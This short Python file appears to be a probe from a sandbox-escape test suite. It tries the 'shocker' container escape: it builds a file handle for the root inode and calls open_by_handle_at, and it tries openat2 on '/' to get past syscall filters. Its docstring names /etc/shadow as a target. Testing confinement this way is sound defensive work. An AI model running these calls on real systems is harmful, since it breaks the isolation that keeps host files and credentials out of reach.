"""Opens files by handle: an inode number instead of a path (the attack known as shocker).

Would gain: every file of the file system that the workspace lies on, from /etc/shadow onwards.
"""
import ctypes
import os
import struct

from inside import attempt, main, reach, sysc


def by_handle(fd):
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, 2), 32)
    sysc("open_by_handle_at", fd, handle, os.O_RDONLY)


def attack():
    fd = os.open(".", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 160)
    reach("name_to_handle_at", sysc, "name_to_handle_at", -100, b".", handle, (ctypes.c_int * 1)(), 0)
    reach("open_by_handle_at", by_handle, fd)
    attempt("openat2, whose flags no filter sees", sysc, "openat2", -100, b"/", (ctypes.c_uint64 * 3)(), 24)


if __name__ == "__main__":
    main(attack)
